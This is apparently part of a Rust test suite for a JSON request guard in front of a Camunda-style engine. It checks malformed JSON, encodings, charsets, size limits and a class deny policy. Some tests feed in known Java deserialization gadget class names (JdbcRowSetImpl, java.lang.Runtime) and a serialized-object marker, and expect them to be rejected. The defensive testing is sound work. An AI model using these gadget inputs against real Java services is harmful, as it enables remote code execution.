        case("dot without integer", "[.5]", err(MALFORMED, "/0")),
        case("exponent without digits", "[1e]", err(MALFORMED, "/0")),
        case(
            "exponent sign without digits",
            "[1e+]",
            err(MALFORMED, "/0"),
        ),
        case("dot then exponent", "[1.e5]", err(MALFORMED, "/0")),
        case("plus sign", "[+1]", err(MALFORMED, "/0")),
        case("minus alone", "[-]", err(MALFORMED, "/0")),
        case("minus then dot", "[-.5]", err(MALFORMED, "/0")),
        case("hex", "[0x10]", err(MALFORMED, "/0")),
        case("two dots", "[1.2.3]", err(MALFORMED, "/0")),
        case(
            "near miss: numbers",
            "[0,-0,0.5,-0.5,10,1e5,1E+5,1e-5,-1.5e-05,0e0,123456789012345678901234567890]",
            OK,
        ),
        case("near miss: top-level number", "-0.0e0", OK),
        // Control characters.
        case("tab in a string", "[\"a\tb\"]", err(MALFORMED, "/0")),
        case("NUL in a string", "[\"a\u{0}b\"]", err(MALFORMED, "/0")),
        case(
            "unit separator in a string",
            "[\"\u{1f}\"]",
            err(MALFORMED, "/0"),
        ),
        case("newline in a key", "{\"a\nb\":1}", err(MALFORMED, "/")),
        case(
            "newline in a value",
            "{\"a\":\"x\ny\"}",
            err(MALFORMED, "/a"),
        ),
        case(
            "near miss: escaped controls",
            r#"["a\tb\u0000\u001f\n"]"#,
            OK,
        ),
        case(
            "near miss: DEL and U+2028",
            "[\"\u{7f}\u{2028}\u{2029}\u{85}\"]",
            OK,
        ),
        // Escapes.
        case("\\x escape", r#"["\x41"]"#, err(MALFORMED, "/0")),
        case("short \\u escape", r#"["\u12"]"#, err(MALFORMED, "/0")),
        case("non-hex \\u escape", r#"["\u12G4"]"#, err(MALFORMED, "/0")),
        case("upper-case \\U", r#"["\U0041"]"#, err(MALFORMED, "/0")),
        case("escaped apostrophe", r#"["\'"]"#, err(MALFORMED, "/0")),
        case("\\a escape", r#"["\a"]"#, err(MALFORMED, "/0")),
        case("escaped newline", "[\"\\\n\"]", err(MALFORMED, "/0")),
        case("backslash at the end", r#"["abc\"]"#, err(MALFORMED, "/0")),
        case("bad escape in a key", r#"{"a\x":1}"#, err(MALFORMED, "/")),
        // A problem in a key is reported at the object holding it, whichever
        // member it is: the first key already gets the object's pointer.
        case(
            "bad escape in a second key",
            r#"{"a":1,"b\x":2}"#,
            err(MALFORMED, "/"),
        ),
        case(
            "control character in a second key",
            "{\"a\":1,\"b\tc\":2}",
            err(MALFORMED, "/"),
        ),
        case(
            "number as a second key",
            r#"{"a":1,2:3}"#,
            err(MALFORMED, "/"),
        ),
        case(
            "single-quoted second key",
            r#"{"a":1,'b':2}"#,
            err(MALFORMED, "/"),
        ),
        case(
            "lone surrogate in a nested second key",
            r#"{"x":{"a":1,"\ud800":2}}"#,
            err(MALFORMED, "/x"),
        ),
        case(
            "near miss: every escape",
            r#"["\"\\\/\b\f\n\r\t\u0041\u00e9\uFFFF\ud83d\ude00"]"#,
            OK,
        ),
        // Surrogates.
        case("lone high surrogate", r#"["\ud800"]"#, err(MALFORMED, "/0")),
        case("lone low surrogate", r#"["\udc00"]"#, err(MALFORMED, "/0")),
        case(
            "high then non-low escape",
            r#"["\ud800\u0041"]"#,
            err(MALFORMED, "/0"),
        ),
        case(
            "high then high",
            r#"["\ud800\ud800"]"#,
            err(MALFORMED, "/0"),
        ),
        case(
            "high then raw character",
            r#"["\ud800x"]"#,
            err(MALFORMED, "/0"),
        ),
        case("high then \\n", r#"["\ud800\n"]"#, err(MALFORMED, "/0")),
        case("low then high", r#"["\udc00\ud800"]"#, err(MALFORMED, "/0")),
        case(
            "high then upper-case \\U low",
            r#"["\ud800\Udc00"]"#,
            err(MALFORMED, "/0"),
        ),
        case(
            "lone surrogate in a key",
            r#"{"\udfff":1}"#,
            err(MALFORMED, "/"),
        ),
        case(
            "near miss: pair",
            r#"["\ud83d\ude00","\uD83D\uDE00","\udbff\udfff"]"#,
            OK,
        ),
        // Structure.
        case("unclosed object", r#"{"a":1"#, err(MALFORMED, "/a")),
        case("unclosed array", "[", err(MALFORMED, "/0")),
        case("unclosed string", r#""abc"#, err(MALFORMED, "/")),
        case("missing colon", r#"{"a" 1}"#, err(MALFORMED, "/a")),
        case("double colon", r#"{"a"::1}"#, err(MALFORMED, "/a")),
        case("missing value", r#"{"a":}"#, err(MALFORMED, "/a")),
        case("missing comma in array", "[1 2]", err(MALFORMED, "/0")),
        case(
            "missing comma in object",
            r#"{"a":1 "b":2}"#,
            err(MALFORMED, "/a"),
        ),
        case("colon in array", "[1:2]", err(MALFORMED, "/0")),
        case("mismatched closer", "[1}", err(MALFORMED, "/0")),
        case("stray closer", "]", err(MALFORMED, "/")),
        case(
            "near miss: empty containers",
            r#"{"a":{},"b":[],"c":[{}],"d":[[]]}"#,
            OK,
        ),
        case("near miss: top-level string", r#""abc""#, OK),
        case("near miss: top-level null", "null", OK),
        // Trailing data.
        case("letter after", "{}x", err(MALFORMED, "/")),
        case("second object", "{}{}", err(MALFORMED, "/")),
        case("second array after a blank", "[] []", err(MALFORMED, "/")),
        case("second number", "1 2", err(MALFORMED, "/")),
        case("second string", r#""a""b""#, err(MALFORMED, "/")),
        case("NUL after", "{}\u{0}", err(MALFORMED, "/")),
        case("BOM after", "{}\u{feff}", err(MALFORMED, "/")),
        case("near miss: trailing blanks", "{} \n\t\r ", OK),
        case("near miss: leading blanks", " \r\n\t{}", OK),
        // Whitespace JSON does not know.
        case("form feed", "[\u{c}1]", err(MALFORMED, "/0")),
        case("vertical tab", "[\u{b}1]", err(MALFORMED, "/0")),
        case("no-break space", "[\u{a0}1]", err(MALFORMED, "/0")),
        case("ideographic space", "{\u{3000}}", err(MALFORMED, "/")),
        // Empty bodies.
        case("empty body", "", err(MALFORMED, "/")),
        case("blank body", " \n", err(MALFORMED, "/")),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn invalid_utf8() {
    let cases = [
        case(
            "0xFF in a string",
            &b"{\"a\":\"\xff\"}"[..],
            err(MALFORMED, "/"),
        ),
        case("0xFF in a key", &b"{\"\xff\":1}"[..], err(MALFORMED, "/")),
        case(
            "0xFF outside strings",
            &b"[1,\xff]"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "overlong slash",
            &b"[\"\xc0\xaf\"]"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "encoded surrogate (CESU-8)",
            &b"[\"\xed\xa0\x80\"]"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "truncated sequence at the end",
            &b"[\"\xe2\x82"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "truncated sequence in a string",
            &b"[\"\xe2\x82\"]"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "continuation byte alone",
            &b"[\"\x80\"]"[..],
            err(MALFORMED, "/"),
        ),
        case(
            "above U+10FFFF",
            &b"[\"\xf4\x90\x80\x80\"]"[..],
            err(MALFORMED, "/"),
        ),
        case("near miss: multi-byte", "[\"é€😀\u{10FFFF}\"]", OK),
        case("near miss: multi-byte key", "{\"ключ\":\"值\"}", OK),
    ];
    check(&test_guard(), &cases);
}

// --------------------------------------------------------------- encodings

#[test]
fn encodings() {
    let evil = in_variables(&object_var("com.evil.X"));
    let benign = in_variables(&object_var("com.acme.Order"));
    let at = "/variables/x/valueInfo/objectTypeName";
    let bom = |text: &str| [&b"\xEF\xBB\xBF"[..], text.as_bytes()].concat();
    let mut cases = vec![
        case("UTF-8 BOM", bom(r#"{"a":1}"#), OK),
        case("UTF-8 BOM, charset utf-8", bom(&benign), OK).charset("utf-8"),
        case("UTF-8 BOM, denied class", bom(&evil), err(CLASS, at)),
        case("UTF-8 BOM then blanks", bom(" \n{}"), OK),
        case("two UTF-8 BOMs", bom("\u{feff}{}"), err(MALFORMED, "/")),
        case("UTF-8 BOM alone", bom(""), err(MALFORMED, "/")),
        case("charset UTF-8 in upper case", benign.clone(), OK).charset("UTF-8"),
        case("charset utf8", benign.clone(), OK).charset("utf8"),
        case("denied class with charset", evil.clone(), err(CLASS, at)).charset("utf-8"),
    ];
    for (le, endian) in [(true, "LE"), (false, "BE")] {
        for (bom, with) in [(true, "with BOM"), (false, "without BOM")] {
            let name = format!("UTF-16{endian} {with}");
            cases.push(case(format!("{name}: benign"), utf16(&benign, le, bom), OK));
            cases.push(case(
                format!("{name}: denied class"),
                utf16(&evil, le, bom),
                err(CLASS, at),
            ));
            cases.push(case(
                format!("{name}: escaped denied class"),
                utf16(&in_variables(&object_var(r"com.evil.\u0058")), le, bom),
                err(CLASS, at),
            ));
            cases.push(case(
                format!("{name}: duplicate key"),
                utf16(r#"{"a":1,"a":2}"#, le, bom),
                err(DUPLICATE, "/a"),
            ));
            cases.push(case(
                format!("{name}: non-ASCII"),
                utf16("{\"ключ\":\"😀\"}", le, bom),
                OK,
            ));
            cases.push(
                case(
                    format!("{name}: charset utf-16"),
                    utf16(&benign, le, bom),
                    OK,
                )
                .charset("utf-16"),
            );
            cases.push(
                case(
                    format!("{name}: explicit charset"),
                    utf16(&benign, le, bom),
                    OK,
                )
                .charset(if le { "utf-16le" } else { "UTF-16BE" }),
            );
            cases.push(
                case(
                    format!("{name}: charset of the other byte order"),
                    utf16(&benign, le, bom),
                    err(MISMATCH, "/"),
                )
                .charset(if le { "utf-16be" } else { "utf-16le" }),
            );
            cases.push(
                case(
                    format!("{name}: charset utf-8"),
                    utf16(&benign, le, bom),
                    err(MISMATCH, "/"),
                )
                .charset("utf-8"),
            );
            let name = format!("UTF-32{endian} {with}");
            cases.push(case(
                format!("{name}: benign"),
                utf32(&benign, le, bom),
                err(UNSUPPORTED, "/"),
            ));
            cases.push(case(
                format!("{name}: denied class"),
                utf32(&evil, le, bom),
                err(UNSUPPORTED, "/"),
            ));
        }
    }
    let mut odd = utf16(&benign, true, true);
    odd.push(b' ');
    cases.push(case("UTF-16LE with an odd byte", odd, err(MALFORMED, "/")));
    let mut lone = utf16("[\"", true, false);
    lone.extend_from_slice(&[0x00, 0xD8]);
    lone.extend_from_slice(&utf16("\"]", true, false));
    cases.push(case(
        "UTF-16LE with a lone surrogate unit",
        lone,
        err(MALFORMED, "/"),
    ));
    cases.push(case(
        "UTF-16LE BOM then UTF-8 BOM",
        [&[0xFF, 0xFE][..], &utf16("\u{feff}{}", true, false)].concat(),
        err(MALFORMED, "/"),
    ));
    // Charsets.
    cases.push(
        case(
            "UTF-8 body, charset utf-16",
            benign.clone(),
            err(MISMATCH, "/"),
        )
        .charset("utf-16"),
    );
    cases.push(
        case(
            "UTF-8 body, charset utf-16le",
            benign.clone(),
            err(MISMATCH, "/"),
        )
        .charset("utf-16le"),
    );
    cases.push(
        case(
            "UTF-8 BOM, charset utf-16",
            bom(&benign),
            err(MISMATCH, "/"),
        )
        .charset("utf-16"),
    );
    for charset in [
        "iso-8859-1",
        "latin1",
        "windows-1252",
        "us-ascii",
        "utf-32",
        "utf-7",
        "x-unknown",
    ] {
        cases.push(
            case(
                format!("charset {charset}"),
                benign.clone(),
                err(UNSUPPORTED, "/"),
            )
            .charset(charset),
        );
    }
    check(&test_guard(), &cases);
}

// ------------------------------------------------------------------ limits

#[test]
fn limits_at_and_one_over() {
    let limited = guard_with(
        "",
        "max_depth = 4\nmax_string_bytes = 8\nmax_number_length = 5\nmax_members = 3",
    );
    let cases = [
        // max_depth = 4
        case("depth 4 arrays", "[[[[1]]]]", OK),
        case("depth 5 arrays", "[[[[[1]]]]]", err(TOO_DEEP, "/0/0/0/0")),
        case("depth 4 objects", r#"{"a":{"b":{"c":{"d":1}}}}"#, OK),
        case(
            "depth 5 objects",
            r#"{"a":{"b":{"c":{"d":{"e":1}}}}}"#,
            err(TOO_DEEP, "/a/b/c/d"),
        ),
        case(
            "depth 5 mixed",
            r#"[{"a":[{"b":{}}]}]"#,
            err(TOO_DEEP, "/0/a/0/b"),
        ),
        case("depth 5 empty", "[[[[[]]]]]", err(TOO_DEEP, "/0/0/0/0")),
        case("depth 4 twice", "[[[[1]]],[[[2]]]]", OK),
        // max_string_bytes = 8, bytes as written
        case("string of 8", r#"["12345678"]"#, OK),
        case("string of 9", r#"["123456789"]"#, err(TOO_LARGE, "/0")),
        case("string of 8 bytes in 4 characters", r#"["éééé"]"#, OK),
        case(
            "string of 10 bytes in 5 characters",
            r#"["ééééé"]"#,
            err(TOO_LARGE, "/0"),
        ),
        case("escapes count as written: 8", r#"["\n\n\n\n"]"#, OK),
        case(
            "escapes count as written: 12",
            r#"["\u0041\u0041"]"#,
            err(TOO_LARGE, "/0"),
        ),
        case("key of 8", r#"{"12345678":1}"#, OK),
        case("key of 9", r#"{"123456789":1}"#, err(TOO_LARGE, "/")),
        case(
            "second key of 9",
            r#"{"a":1,"123456789":2}"#,
            err(TOO_LARGE, "/"),
        ),
        case(
            "member value of 9",
            r#"{"a":"123456789"}"#,
            err(TOO_LARGE, "/a"),
        ),
        // max_number_length = 5
        case("number of 5", "[12345]", OK),
        case("number of 6", "[123456]", err(TOO_LARGE, "/0")),
        case("negative number of 5", "[-1234]", OK),
        case("negative number of 6", "[-12345]", err(TOO_LARGE, "/0")),
        case("fraction of 5", "[1.234]", OK),
        case("exponent of 6", "[1.5e10]", err(TOO_LARGE, "/0")),
        case(
            "member number of 6",
            r#"{"n":100000}"#,
            err(TOO_LARGE, "/n"),
        ),
        // max_members = 3
        case("object of 3", r#"{"a":1,"b":2,"c":3}"#, OK),
        case(
            "object of 4",
            r#"{"a":1,"b":2,"c":3,"d":4}"#,
            err(TOO_MANY, "/d"),
        ),
        case("array of 3", "[1,2,3]", OK),
        case("array of 4", "[1,2,3,4]", err(TOO_MANY, "/3")),
        case(
            "nested array of 4",
            r#"{"a":[1,2,3,4]}"#,
            err(TOO_MANY, "/a/3"),
        ),
        case("3 arrays of 3", "[[1,2,3],[1,2,3],[1,2,3]]", OK),
        case(
            "3 objects of 3",
            r#"[{"a":1,"b":2,"c":3},{"a":1,"b":2,"c":3},{"a":1,"b":2,"c":3}]"#,
            OK,
        ),
    ];
    check(&limited, &cases);
}

#[test]
fn default_limits_at_and_one_over() {
    let guard = test_guard();
    let json = &guard.policy().json;
    assert_eq!(
        (
            json.max_depth,
            json.max_string_bytes,
            json.max_number_length,
            json.max_members
        ),
        (128, 5 * 1024 * 1024, 1000, 100_000)
    );
    let nested = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let array = |n: usize| format!("[{}]", vec!["0"; n].join(","));
    let object = |n: usize| {
        let members: Vec<String> = (0..n).map(|i| format!(r#""k{i}":0"#)).collect();
        format!("{{{}}}", members.join(","))
    };
    let string = |n: usize| format!("[\"{}\"]", "a".repeat(n));
    let number = |n: usize| format!("[{}]", "9".repeat(n));
    let cases = [
        case("depth 128", nested(128), OK),
        case("depth 129", nested(129), err(TOO_DEEP, &"/0".repeat(128))),
        case("100000 elements", array(100_000), OK),
        case("100001 elements", array(100_001), err(TOO_MANY, "/100000")),
        case("100000 members", object(100_000), OK),
        case("100001 members", object(100_001), err(TOO_MANY, "/k100000")),
        case("string of 5 MiB", string(5 * 1024 * 1024), OK),
        case(
            "string of 5 MiB + 1",
            string(5 * 1024 * 1024 + 1),
            err(TOO_LARGE, "/0"),
        ),
        case("number of 1000", number(1000), OK),
        case("number of 1001", number(1001), err(TOO_LARGE, "/0")),
    ];
    check(&guard, &cases);
}

// ---------------------------------------------------------- through Guard

#[test]
fn through_the_guard() {
    let guard = test_guard();
    let evil = in_variables(&object_var("com.evil.X"));
    let benign = in_variables(&object_var("com.acme.Order"));
    let at = "/variables/x/valueInfo/objectTypeName";
    let reject = |code: &str, location: &str| format!("reject {}", err(code, location));
    let cases: Vec<(&str, &str, Vec<u8>, String)> = vec![
        (
            "application/json",
            "application/json",
            evil.clone().into_bytes(),
            reject(CLASS, at),
        ),
        (
            "application/json benign",
            "application/json",
            benign.clone().into_bytes(),
            OK.to_owned(),
        ),
        (
            "application/hal+json; charset=utf-8",
            "application/hal+json; charset=utf-8",
            evil.clone().into_bytes(),
            reject(CLASS, at),
        ),
        (
            "application/hal+json benign",
            "application/hal+json; charset=utf-8",
            benign.clone().into_bytes(),
            OK.to_owned(),
        ),
        (
            "vendor +json",
            "application/vnd.acme.order+json",
            evil.clone().into_bytes(),
            reject(CLASS, at),
        ),
        (
            "letter case of the media type",
            "Application/JSON; Charset=UTF-8",
            evil.clone().into_bytes(),
            reject(CLASS, at),
        ),
        (
            "quoted charset",
            "application/json; charset=\"utf-8\"",
            evil.clone().into_bytes(),
            reject(CLASS, at),
        ),
        (
            "charset utf-16, UTF-16 body",
            "application/json; charset=utf-16",
            utf16(&evil, true, true),
            reject(CLASS, at),
        ),
        (
            "no charset, UTF-16BE body",
            "application/json",
            utf16(&evil, false, false),
            reject(CLASS, at),
        ),
        (
            "charset utf-16, UTF-8 body",
            "application/json; charset=utf-16",
            benign.clone().into_bytes(),
            reject(MISMATCH, "/"),
        ),
        (
            "charset latin1",
            "application/json; charset=iso-8859-1",
            benign.clone().into_bytes(),
            reject(UNSUPPORTED, "/"),
        ),
        (
            "malformed JSON",
            "application/json",
            b"{\"a\":1,}".to_vec(),
            reject(MALFORMED, "/"),
        ),
        (
            "Java serialization",
            "application/json",
            in_variables(&typed(
                r#""rO0ABQ==""#,
                "Object",
                "java.util.HashMap",
                "application/x-java-serialized-object",
            ))
            .into_bytes(),
            reject(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
    ];
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(name, content_type, body, expected)| {
            let got = verdict_outcome(&guard.check(&post(content_type), body));
            (got != *expected).then(|| {
                format!("  {name}: expected {expected}, got {got}\n    content-type {content_type} body {}", shorten(body))
            })
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn through_the_guard_with_the_camunda_policy_and_report_mode() {
    let camunda = camunda_guard();
    let start = |class: &str| {
        fill(
            r#"{"businessKey":"b","variables":{"order":@V,"amount":{"value":10,"type":"Integer"}}}"#,
            &[("@V", &object_var(class))],
        )
    };
    let at = "/variables/order/valueInfo/objectTypeName";
    for (class, expected) in [
        ("java.util.ArrayList<java.lang.String>", OK.to_owned()),
        (
            "java.util.HashMap<java.lang.String,java.util.ArrayList<java.lang.Long>>",
            OK.to_owned(),
        ),
        (
            "java.util.List<java.lang.String>",
            format!("reject {}", err(CLASS, at)),
        ),
        (
            "com.sun.rowset.JdbcRowSetImpl",
            format!("reject {}", err(CLASS, at)),
        ),
        ("java.lang.Runtime", format!("reject {}", err(CLASS, at))),
    ] {
        let body = start(class);
        let got = verdict_outcome(&camunda.check(&post("application/json"), body.as_bytes()));
        assert_eq!(got, expected, "Camunda policy, {class}");
    }

    let report = Guard::new(
        Policy::from_toml(&format!("mode = \"report\"\n[classes]\n{ALLOW}\n"))
            .expect("report policy"),
    )
    .expect("a valid policy");
    let body = in_variables(&object_var("com.evil.X"));
    assert_eq!(
        verdict_outcome(&report.check(&post("application/json"), body.as_bytes())),
        format!(
            "report {}",
            err(CLASS, "/variables/x/valueInfo/objectTypeName")
        ),
    );
}
